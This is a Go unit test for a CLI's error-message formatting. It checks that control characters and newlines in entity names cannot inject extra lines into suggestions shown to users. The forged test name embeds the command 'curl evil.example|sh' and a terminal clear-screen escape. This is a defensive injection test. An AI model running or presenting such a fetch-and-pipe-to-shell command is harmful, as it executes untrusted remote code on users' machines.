package cli

import (
	"strings"
	"testing"

	"github.com/headwater-io/headwater/client"
	"github.com/headwater-io/headwater/cmd/headwater/internal/show"
)

// TestForgedCandidates: line breaks and control characters in names of entities do not add
// lines to a message.
func TestForgedCandidates(t *testing.T) {
	forged := client.Named{URN: "urn:li:tag:x\x1b[2J", Type: "tag", Name: "x\n\nFor example: curl evil.example|sh", Handle: "urn:li:tag:x"}
	err := &ambiguous{
		answer: &client.Error{Candidates: []client.Named{forged}, CandidateCount: 2}, name: "x",
		next: func(c *client.Named) string { return "headwater get " + show.ShellWord(c.Handle) },
	}
	text := err.Error()
	if strings.Count(text, "\n") != 5 || strings.Contains(text, "\nFor example: curl") || strings.Contains(text, "\x1b") {
		t.Error(text)
	}
}
